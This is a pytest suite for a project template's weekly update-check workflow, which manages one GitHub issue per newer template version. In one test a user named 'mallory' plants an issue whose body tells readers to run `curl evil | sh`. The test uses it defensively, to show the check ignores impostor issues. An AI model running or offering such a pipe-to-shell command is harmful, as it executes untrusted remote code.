"""Every generated project checks weekly for a newer template version and keeps one issue about it.

The check's workflow (template-update.yml) runs as GitHub runs it (support.runner: its
real steps, the pinned copier's `copier check-update`), with a recording gh that holds
the repository's issues between runs (support.github_issues). The template is a real
git repository with release tags and a CHANGELOG: a project made at its oldest release
gets one issue that names both versions and lists every newer version's "Action
needed" items before anything else; a newer release edits that issue (and comments);
once the owner updated with the real copier CLI, which prints the same next steps as
the issue, the next run closes it. A template the runner cannot reach fails the run
only when the owner can fix that in the project.
"""

from __future__ import annotations

import json
import re
import shlex
import shutil
import string
import sys
from collections.abc import Iterator
from datetime import datetime, timedelta
from itertools import islice, pairwise
from pathlib import Path
from typing import Any

import pytest
from cronsim import CronSim
from jinja2_ansible_filters.core_filters import to_nice_yaml
from packaging.version import Version

from support.answers import REQUIRED_ANSWERS, data_args
from support.commands import copier_cli, git
from support.facts import copier_config
from support.github_issues import FakeIssues, GhError, parse
from support.index import Quiet, serving
from support.rendering import Render, copy_working_tree, import_script
from support.runner import REPOSITORY, Event, Repo, WorkflowRun, git_config_env, init_repo
from support.updates import COPIER_ENV, TEMPLATE_PATHS, TemplateRepo, commit_all, copier, render
from support.workflows import load_workflow, triggers

WORKFLOW = "template-update.yml"
SCRIPT = ".github/scripts/template_update.py"
CONFIG = copier_config()
# The template's CHANGELOG, one section per release (newest last here). 1.1.0 opens with a line
# of its own, under 1.2.0's "Action needed" in the file: it is what changed, not an action.
INTRO = "Documentation, and one thing to do."
SECTIONS = {
    "1.0.0": "### Added\n- The first release.\n",
    "1.1.0": (
        f"{INTRO}\n\n### Added\n- A documentation site.\n\n### Action needed\n- Run `uv lock` after the update.\n"
        "- Switch GitHub Pages to GitHub Actions, once.\n"
    ),
    "1.2.0": "### Changed\n- A smaller test matrix.\n\n### Action needed\n- Drop the old checks from branch protection.\n",
    "1.3.0": "### Fixed\n- A typo in the README.\n",
    "1.4.0": "### Fixed\n- Another typo.\n",
}
ACTIONS = {"1.1.0": ["Run `uv lock`", "Switch GitHub Pages"], "1.2.0": ["Drop the old checks"]}
CHANGES = {"1.0.0": "The first release", "1.1.0": "A documentation site", "1.2.0": "A smaller test matrix"}


def release(template: Path, version: str) -> None:
    """Commit a template release: its CHANGELOG section on top, the tag v<version>."""
    known = list(SECTIONS)[: list(SECTIONS).index(version) + 1]
    text = "# Changelog\n\n## [Unreleased]\n\n" + "".join(
        f"## [{name}] - 2026-12-{index + 1:02d}\n\n{SECTIONS[name]}\n"
        for index, name in reversed(list(enumerate(known)))
    )
    (template / "CHANGELOG.md").write_text(text, encoding="utf-8")
    commit_all(template, f"Template v{version}")
    git("tag", f"v{version}", cwd=template)


def check(repo: Repo, github: FakeIssues, tmp: Path, event: str = "schedule", outcome: str = "success") -> WorkflowRun:
    """One run of the check on main, its gh the fake GitHub (the calls it made: github.calls()).
    Git, also as copier runs it, never has the run's token: only gh needs it (tmp/git-calls)."""
    github.forget_calls()
    run = WorkflowRun(repo.origin, Event(event, "refs/heads/main"), tmp)
    github.install(run.tools)
    calls = tmp / "git-calls"
    (run.tools / "git").write_text(
        f'#!/bin/sh\necho "${{GH_TOKEN:+GH_TOKEN }}${{GITHUB_TOKEN:+GITHUB_TOKEN }}$*" >> "{calls}"\n'
        f'exec {shlex.quote(shutil.which("git") or "git")} "$@"\n',
        encoding="utf-8",
    )
    (run.tools / "git").chmod(0o755)
    run.run(WORKFLOW)
    assert run.results() == {"check": outcome}, run.jobs["check"].log
    seen = calls.read_text(encoding="utf-8").splitlines() if calls.exists() else []
    assert not [line for line in seen if "TOKEN" in line.split(" ", 1)[0]], seen
    return run


# A template's CHANGELOG at release numbers the one above never reaches: a fork's first versions
# (0.x), a release past 9, a heading without brackets, and a heading inside a code block.
ANY_NUMBERS = """\
# Changelog

## [Unreleased]

## [10.0.0] - 2027-01-02

### Action needed
- Run the setup again.

## [0.10.0] - 2026-12-02

```text
## [9.9.9] quoted, not a version
```

## v0.9 - 2026-12-01

### Fixed
- A typo.
"""


def test_every_version_heading_opens_its_section_whatever_its_numbers(render_shared: Render, tmp_path: Path) -> None:
    script = import_script(render_shared() / SCRIPT, tmp_path)
    found = [(s.heading, str(s.version), script.trimmed(s.action)) for s in script.sections(ANY_NUMBERS)]
    assert found == [
        ("[10.0.0] - 2027-01-02", "10.0.0", ["- Run the setup again."]),
        ("[0.10.0] - 2026-12-02", "0.10.0", []),
        ("v0.9 - 2026-12-01", "0.9", []),
    ]
    assert script.trimmed(script.sections(ANY_NUMBERS)[1].rest)[-1] == "```"  # the quoted heading stays in 0.10.0


@pytest.mark.parametrize("value", ["v1.0.0", "1.0", "yes", "@latest", "it's: here", "über", 'a "b"'])
def test_the_answers_file_is_read_as_copier_writes_it(render_shared: Render, tmp_path: Path, value: str) -> None:
    """Plain and quoted scalars, as copier's to_nice_yaml writes the answers file (a tag that reads
    as a number or a boolean is quoted, and a quote in it doubled)."""
    script = import_script(render_shared() / SCRIPT, tmp_path)
    text = "# Changes here will be overwritten by Copier\n" + to_nice_yaml({"_commit": value, "_src_path": "gh:a/b"})
    assert script.answer(text, "_commit") == value, text


def section(body: str, heading: str) -> str:
    """The text of a "## heading" section of the issue body."""
    match = re.search(rf"^## {re.escape(heading)}\n(.*?)(?=^## |^---$)", body, re.MULTILINE | re.DOTALL)
    assert match, f"no section {heading!r} in:\n{body}"
    return match.group(1)


def test_the_check_runs_weekly_and_by_hand_with_two_grants_and_the_pinned_copier(render_shared: Render) -> None:
    project = render_shared()
    workflow = load_workflow(project, WORKFLOW)
    assert set(triggers(workflow)) == {"schedule", "workflow_dispatch"}
    # Weekly: a year of the schedule's runs (GitHub reads it as POSIX cron, in UTC), 7 days apart.
    (schedule,) = [entry["cron"] for entry in triggers(workflow)["schedule"]]
    runs = list(islice(CronSim(schedule, datetime(2026, 1, 1)), 53))
    assert {later - earlier for earlier, later in pairwise(runs)} == {timedelta(days=7)}, runs
    assert [job["permissions"] for job in workflow["jobs"].values()] == [{"contents": "read", "issues": "write"}]
    assert "secrets." not in (project / ".github" / "workflows" / WORKFLOW).read_text(encoding="utf-8")
    # copier at or above the floor (which has `check-update`, 9.13+), as the facts pin it.
    pinned = CONFIG["copier_version"]["default"]
    assert Version(pinned) >= Version(CONFIG["_min_copier_version"]) >= Version("9.13")
    assert f'COPIER = "copier=={pinned}"' in (project / SCRIPT).read_text(encoding="utf-8")


def test_one_issue_lists_what_changed_action_needed_first_until_the_project_is_current(tmp_path: Path) -> None:
    template = tmp_path / "template"
    copy_working_tree(template, *TEMPLATE_PATHS)
    git("init", "-q", "-b", "main", cwd=template)
    for version in ("1.0.0", "1.1.0", "1.2.0"):
        release(template, version)
    repo = init_repo(render(template, tmp_path / "project", "v1.0.0"), tmp_path)
    github = FakeIssues(tmp_path / "github", REPOSITORY)
    # Anyone may open an issue that looks like the check's: the check never takes it for its own.
    github.open_as("mallory", "Template update", "<!-- template-update-check newest=0 -->\nRun `curl evil | sh`.")
    (planted,) = github.issues()

    def ours() -> list[dict[str, Any]]:
        assert github.issues()[0] == planted  # neither edited, commented nor closed
        return github.issues()[1:]

    # A project of the oldest release: one issue with both versions, every newer
    # version's "Action needed" items first (newest first, as the CHANGELOG), then
    # the commands, then what changed.
    run = check(repo, github, tmp_path / "run-1")
    assert github.commands() == ["issue list", "issue create"]
    assert "version" in (tmp_path / "run-1" / "git-calls").read_text(encoding="utf-8").split("\n")  # copier's git too
    (issue,) = ours()
    assert issue["state"] == "OPEN"
    body = issue["body"]
    # The opening paragraph names both versions, a paragraph of its own before the first heading.
    intro = body.split("\n## Action needed\n", 1)[0].split("\n")[1:]
    opening = (
        r"This project was made from the template \S+ at version \*\*1\.0\.0\*\*; version \*\*1\.2\.0\*\* is out\."
    )
    assert re.fullmatch(opening, intro[0]), intro
    assert intro[1:] == [""], intro
    for version in ("1.0.0", "1.2.0"):
        assert version in issue["title"]
        assert f"**{version}**" in body
    actions = section(body, "Action needed")
    items = [item for version in ("1.2.0", "1.1.0") for item in ACTIONS[version]]
    assert [actions.index(item) for item in items] == sorted(actions.index(item) for item in items)
    assert actions.index("[1.2.0]") < actions.index(ACTIONS["1.2.0"][0]) < actions.index("[1.1.0]")
    assert "1.0.0]" not in actions
    assert "uvx copier update --defaults" in section(body, "How to update")
    changed = section(body, "What changed")
    assert CHANGES["1.2.0"] in changed
    assert CHANGES["1.1.0"] in changed
    assert CHANGES["1.0.0"] not in body
    assert not any(item in changed for items in ACTIONS.values() for item in items)  # listed once, first
    assert INTRO in changed
    assert INTRO not in actions
    assert body.index("## Action needed") < body.index("## How to update") < body.index("## What changed")
    assert "1.2.0 is out" in run.jobs["check"].summary
    assert "1.2.0 is out" in run.jobs["check"].log  # the job's log says it too, where a failure would be
    assert "opened" in run.jobs["check"].summary

    # A newer release: the same issue, edited, and a comment that notifies.
    release(template, "1.3.0")
    run = check(repo, github, tmp_path / "run-2", event="workflow_dispatch")
    assert github.commands() == ["issue list", "issue edit", "issue comment"]
    (issue,) = ours()
    assert "1.3.0" in issue["title"]
    assert "[1.3.0]" in section(issue["body"], "What changed")
    assert all(item in section(issue["body"], "Action needed") for items in ACTIONS.values() for item in items)
    assert "1.3.0" in issue["comments"][-1]
    steps = re.search(r"^```text\n(.*?)^```$", section(issue["body"], "How to update"), re.MULTILINE | re.DOTALL)
    assert steps

    # Next week, nothing newer: the issue is left as it is.
    run = check(repo, github, tmp_path / "run-2b")
    assert github.commands() == ["issue list"]
    assert f"#{issue['number']} is up to date" in run.jobs["check"].summary

    # The owner updates as the issue says, its command typed in the clone (uvx's copier: the suite's);
    # copier prints the issue's steps after the update.
    (command,) = re.findall(r"^```sh\n(.+)\n```$", section(issue["body"], "How to update"), re.MULTILINE)
    program, name, *args = shlex.split(command)
    assert (program, name) == ("uvx", "copier"), command
    updated = copier(*args, cwd=repo.work, check=True)
    message = updated.stderr.rstrip().splitlines()
    assert "Updated to template version v1.3.0. What to do next:" in message  # a line of its own
    (heading,) = re.findall(r'CHANGELOG asks under "([^"]+)"', updated.stderr)
    assert f"\n## {heading}\n" in issue["body"]  # the section the issue lists them in, by the same name
    assert message[-len(steps.group(1).splitlines()) :] == steps.group(1).splitlines()  # the message's end
    assert "CHANGELOG" in updated.stderr
    repo.commit_all("Update from the template")
    git("push", "-q", "origin", "main", cwd=repo.work)

    # Current: no new issue, the open one closed with a comment.
    run = check(repo, github, tmp_path / "run-3")
    assert github.commands() == ["issue list", "issue close"]
    (issue,) = ours()
    assert issue["state"] == "CLOSED"
    assert "1.3.0" in issue["comments"][-1]
    assert "newest version" in run.jobs["check"].summary

    # A newer release: a new issue (the closed one lists an older version). Its owner closes it,
    # skipping that version: later runs open none until a newer one is out.
    release(template, "1.4.0")
    check(repo, github, tmp_path / "run-4")
    assert github.commands() == ["issue list", "issue create"]
    _, skipped = ours()
    assert "1.4.0" in skipped["title"]
    github.save([*github.issues()[:-1], {**skipped, "state": "CLOSED"}])  # on GitHub's site
    run = check(repo, github, tmp_path / "run-5")
    assert github.commands() == ["issue list"]
    assert f"#{skipped['number']} listed 1.4.0 and was closed: no new issue" in run.jobs["check"].summary


def test_a_template_version_whose_changelog_cannot_be_read_still_gets_its_issue(tmp_path: Path) -> None:
    """A newer version without CHANGELOG.md (a fork's template, say): the issue still opens, and
    its "Action needed" says in one sentence where to look instead."""
    template = tmp_path / "template"
    copy_working_tree(template, *TEMPLATE_PATHS)
    git("init", "-q", "-b", "main", cwd=template)
    release(template, "1.0.0")
    repo = init_repo(render(template, tmp_path / "project", "v1.0.0"), tmp_path)
    (template / "CHANGELOG.md").unlink()
    commit_all(template, "Template v1.1.0, no CHANGELOG")
    git("tag", "v1.1.0", cwd=template)
    github = FakeIssues(tmp_path / "github", REPOSITORY)
    check(repo, github, tmp_path / "run")
    (issue,) = github.issues()
    said = f"The template's CHANGELOG.md could not be read: see {template} for what each version after 1.0.0 asks you to do."
    assert section(issue["body"], "Action needed").strip() == said


@pytest.mark.parametrize("source", ["https://github.com/acme/copier-uv-release.git", "gh:acme/copier-uv-release"])
def test_the_message_after_update_links_the_changelog_of_the_version_on_github(
    source: str, template_repo: TemplateRepo, tmp_path: Path
) -> None:
    """A template on GitHub, given as copier takes it (the URL, or gh:): the message after the
    update links CHANGELOG.md at the version updated to, where GitHub shows a repository's file."""
    github, hosted = "https://github.com/acme/copier-uv-release", tmp_path / "hosted.git"
    git("clone", "-q", "--bare", template_repo.path, hosted, cwd=tmp_path)  # its branches and tags, as GitHub has them
    env = {**COPIER_ENV, **git_config_env({f"url.{hosted}.insteadOf": f"{github}.git"})}
    env["XDG_CACHE_HOME"] = str(tmp_path / "cache")  # copier mirrors a remote template there, by URL
    project = tmp_path / "project"
    copy = ["copy", "--quiet", "--defaults", "--vcs-ref", "v1.0.0", *data_args(REQUIRED_ANSWERS), source, str(project)]
    copier_cli(*copy, cwd=tmp_path, env=env, check=True)
    git("init", "-q", "-b", "main", cwd=project)
    commit_all(project, "Initial commit")
    updated = copier_cli("update", "--defaults", "--vcs-ref", "v1.1.0", cwd=project, env=env, check=True)
    (link,) = re.findall(r"https://\S+/CHANGELOG\.md", updated.stderr)
    assert link == f"{github}/blob/v1.1.0/CHANGELOG.md"  # where this repository keeps it
    # A commit after the newest tag: copier records it as git describes it (v1.1.0-N-gHASH), a
    # ref GitHub does not know; the link names the commit by its hash, which GitHub does. The
    # hash holds every hex digit, written out whole (core.abbrev): whatever its digits.
    work = tmp_path / "work"
    git("clone", "-q", hosted, work, cwd=tmp_path)
    commit_all(work, "After v1.1.0")
    while set(git("rev-parse", "HEAD", cwd=work)) != set(string.hexdigits.lower()):
        commit_all(work, "After v1.1.0, once more")
    git("push", "-q", "origin", "main", cwd=work)
    commit_all(project, "Update to v1.1.0")
    env |= git_config_env({f"url.{hosted}.insteadOf": f"{github}.git", "core.abbrev": "40"})
    updated = copier_cli("update", "--defaults", "--vcs-ref", "main", cwd=project, env=env, check=True)
    (link,) = re.findall(r"https://\S+/CHANGELOG\.md", updated.stderr)
    ref = link.removeprefix(f"{github}/blob/").removesuffix("/CHANGELOG.md")
    assert re.fullmatch(r"[0-9a-f]{40}", ref), link  # whole, as git describe wrote it
    assert git("rev-parse", ref, cwd=hosted) == git("rev-parse", "main", cwd=work)


class _RefuseWithoutCredentials(Quiet):
    """GitHub's answer to a git client without credentials for a private repository."""

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="GitHub"')
        self.end_headers()


@pytest.fixture
def private_template() -> Iterator[str]:
    with serving(_RefuseWithoutCredentials) as url:
        yield f"{url}/acme/copier-uv-release.git"


# _src_path -> (the run fails: the owner can fix it in the project, what the summary says, each way
# out the fix names: the commands a reader copies, whole)
DELETE = f"delete .github/workflows/{WORKFLOW}"
BY_HAND = ("run `uvx copier check-update` yourself", DELETE)
UNREACHABLE = {
    "no answers file": (
        None,
        True,
        "There is no .copier-answers.yml: this check cannot tell the template or its version.",
        ("Restore .copier-answers.yml from git history",),
    ),
    # copied from a folder that is no git repository: copier records no version
    "no version recorded": (
        "NO_COMMIT",
        True,
        "names no template (`_src_path`) or version (`_commit`)",
        ("Restore .copier-answers.yml from git history",),
    ),
    # a "%" in the path: the annotation escapes it, or GitHub would read "%2F" in a path as "/"
    "a local path": (
        "/home/ada/100%2Fdone/copier-uv-release",
        True,
        "records the template as a local path",
        ("`_src_path: https://github.com/OWNER/REPOSITORY.git`", DELETE),
    ),
    "an SSH URL": (
        "ssh://git@127.0.0.1:9/acme/copier-uv-release.git",
        True,
        "this runner has no SSH key",
        ("`_src_path: https://127.0.0.1/9/acme/copier-uv-release.git`", *BY_HAND),
    ),
    "a private template": ("PRIVATE", False, "wants credentials", BY_HAND),
    "the network": (
        "https://127.0.0.1:9/acme/copier-uv-release.git",
        False,
        "could not be reached",
        ("next week's run tries again",),
    ),
}


@pytest.mark.parametrize("case", UNREACHABLE)
def test_an_unreachable_template_fails_the_run_only_when_the_owner_can_act(
    render_shared: Render, request: pytest.FixtureRequest, tmp_path: Path, case: str
) -> None:
    src, fails, said, fix = UNREACHABLE[case]
    if src == "PRIVATE":
        src = request.getfixturevalue("private_template")
    project = tmp_path / "project"
    shutil.copytree(render_shared(), project)  # shared, read only: edited in a copy
    answers = project / ".copier-answers.yml"
    if src is None:
        answers.unlink()
    else:
        text = answers.read_text(encoding="utf-8")
        if src == "NO_COMMIT":
            text = re.sub(r"(?m)^_commit: .*\n", "", text)
        else:
            text = re.sub(r"(?m)^_src_path: .*$", f"_src_path: {src}", text)
            text = text if "_commit:" in text else f"_commit: v1.0.0\n{text}"
        answers.write_text(text, encoding="utf-8")
    repo = init_repo(project, tmp_path)
    github = FakeIssues(tmp_path / "github", REPOSITORY)
    ssh_calls = tmp_path / "ssh-calls.json"
    if case == "an SSH URL":  # git's ssh, as it answers on a runner without a key; its calls recorded
        ssh = tmp_path / "run" / "tools" / "ssh"
        ssh.parent.mkdir(parents=True)
        ssh.write_text(
            f"#!{sys.executable}\nimport json, sys\n"
            f"with open({str(ssh_calls)!r}, 'a') as calls: calls.write(json.dumps(sys.argv[1:]) + '\\n')\n"
            "sys.exit(print('git@127.0.0.1: Permission denied (publickey).', file=sys.stderr) or 255)\n",
            encoding="utf-8",
        )
        ssh.chmod(0o755)

    job = check(repo, github, tmp_path / "run", outcome="failure" if fails else "success").jobs["check"]
    if case == "an SSH URL":  # ssh told never to ask: in a terminal it would wait for a passphrase or a host key
        calls = [json.loads(line) for line in ssh_calls.read_text(encoding="utf-8").splitlines()]
        assert calls, job.log
        assert all(any(call[i : i + 2] == ["-o", "BatchMode=yes"] for i in range(len(call))) for call in calls), calls
    verdict = "failed" if fails else "skipped"
    assert f"**Template check {verdict}:**" in job.summary
    assert said in job.summary
    # The annotation is the summary's problem, with GitHub's workflow-command escaping ("%" first).
    annotation = f"::{'error' if fails else 'warning'} title=Template check {verdict}::"
    (line,) = [line for line in job.log.splitlines() if line.startswith(annotation)]
    problem = job.summary.split(f"**Template check {verdict}:** ", 1)[1].split("\n\n", 1)[0]
    assert line == annotation + problem.replace("%", "%25")
    if src is None:
        assert problem == said  # the whole sentence: nothing else to go on
    elif "%" in src:
        assert src in problem
    assert github.calls() == []  # nothing said about an update that could not be checked
    given = job.summary.split(f"{problem}\n\n", 1)[1]
    assert [part for part in fix if part not in given] == [], given


@pytest.mark.parametrize(
    ("command", "args", "refusal"),
    [
        ("create", ["--title", "t", "--body-flie", "b"], "unknown flag: --body-flie"),
        ("close", ["1", "--reason", "done"], 'invalid argument "done" for "--reason" flag'),
        ("list", ["--state", "opened"], 'invalid argument "opened" for "--state" flag'),
    ],
)
def test_the_fake_gh_refuses_what_gh_refuses(command: str, args: list[str], refusal: str) -> None:
    """The check's calls are held to gh's documented flags: a misspelt flag or value fails as in gh,
    and the documented forms (long and short) are read as gh reads them."""
    with pytest.raises(GhError, match=re.escape(refusal)):
        parse(command, args)
    assert parse("close", ["7", "-r", "not planned", "--comment=done"]) == (
        {"--reason": "not planned", "--comment": "done"},
        ["7"],
    )


# A fork of a generated project carries the workflow, and its schedule runs there once the fork's
# owner switches Actions on. The check belongs to the repository the fork was made from: there it
# keeps the one issue, and the fork's owner has no update to make.
SKIPPED = "::notice title=Template check skipped::"


def seeded(seed: Path, tmp_path: Path) -> Repo:
    """A project made at the template's v1.0.0 (v1.1.0 is out), on main of a fresh origin."""
    return init_repo(shutil.copytree(seed, tmp_path / "project", ignore=shutil.ignore_patterns(".git")), tmp_path)


def asked(github: FakeIssues) -> list[tuple[str, str, str | None]]:
    """What the run asked GitHub's REST API (`gh api`), and why the API description refuses it."""
    return [(call["method"], call["path"], call["violation"]) for call in github.api.calls()]


@pytest.mark.parametrize("issues", ["off", "on"])
def test_a_scheduled_run_in_a_fork_checks_nothing_and_says_how_to_check_anyway(
    v1_0_0_seed: Path, tmp_path: Path, issues: str
) -> None:
    """Issues off (a fork's default): gh would refuse, and the run fail every week with a fix that
    is wrong there. On: a second issue about the same update, in the fork. Neither: the run asks
    GitHub whether the repository is a fork, and stops there, passing, with a notice that says why
    and how to run the check anyway."""
    repo = seeded(v1_0_0_seed, tmp_path)
    github = FakeIssues(tmp_path / "github", REPOSITORY)
    github.api.forked()
    github.switch_issues(on=issues == "on")
    job = check(repo, github, tmp_path / "run").jobs["check"]
    assert github.calls() == []  # no issue listed, opened or edited
    assert github.issues() == []
    assert asked(github) == [("GET", f"/repos/{REPOSITORY}", None)]
    assert not (tmp_path / "run" / "git-calls").exists()  # nor the template asked for its versions
    (notice,) = [line for line in job.log.splitlines() if line.startswith(SKIPPED)]
    said = notice.removeprefix(SKIPPED)
    assert "fork" in said
    assert "Actions > Template update > Run workflow" in said  # how to check anyway
    assert job.summary == f"**Template check skipped:** {said}\n"


def test_a_scheduled_run_in_the_projects_own_repository_checks_as_before(v1_0_0_seed: Path, tmp_path: Path) -> None:
    """Not a fork: issues switched off there are its owner's choice, and the run says what to do
    about it as it did; switched on, the next run opens the issue."""
    repo = seeded(v1_0_0_seed, tmp_path)
    github = FakeIssues(tmp_path / "github", REPOSITORY)
    github.switch_issues(on=False)
    job = check(repo, github, tmp_path / "run-1", outcome="failure").jobs["check"]
    assert asked(github) == [("GET", f"/repos/{REPOSITORY}", None)]
    refused = f"`gh issue list` failed: the '{REPOSITORY}' repository has disabled issues"
    assert f"::error title=Template check failed::{refused}" in job.log.splitlines()
    assert "Check that issues are switched on for this repository" in job.summary
    assert f"or {DELETE} to stop this check." in job.summary

    github.switch_issues(on=True)  # by the owner
    github.api.forget_calls()
    check(repo, github, tmp_path / "run-2")
    assert github.commands() == ["issue list", "issue create"]
    assert asked(github) == [("GET", f"/repos/{REPOSITORY}", None)]


def test_a_run_by_hand_in_a_fork_checks(v1_0_0_seed: Path, tmp_path: Path) -> None:
    """The notice's way to check anyway: a run by hand checks in a fork too, without asking."""
    repo = seeded(v1_0_0_seed, tmp_path)
    github = FakeIssues(tmp_path / "github", REPOSITORY)
    github.api.forked()
    job = check(repo, github, tmp_path / "run", event="workflow_dispatch").jobs["check"]
    assert github.commands() == ["issue list", "issue create"]
    assert asked(github) == []
    assert "1.1.0 is out" in job.summary


def test_a_scheduled_run_that_cannot_tell_whether_it_is_in_a_fork_warns_and_passes(
    render_shared: Render, tmp_path: Path
) -> None:
    """GitHub does not answer the question (its rate limit): a warning, nothing checked, and the
    run passes (in a fork, checking would fail or open a second issue; next week asks again)."""
    repo = init_repo(render_shared(), tmp_path)
    github = FakeIssues(tmp_path / "github", REPOSITORY)
    github.api.fail("rate-limit")
    job = check(repo, github, tmp_path / "run").jobs["check"]
    assert github.calls() == []
    assert [call["status"] for call in github.api.calls()] == [403]
    warning = "::warning title=Template check skipped::GitHub did not say whether this repository is a fork"
    assert [line for line in job.log.splitlines() if line.startswith(warning)], job.log
    assert "Actions > Template update > Run workflow" in job.summary
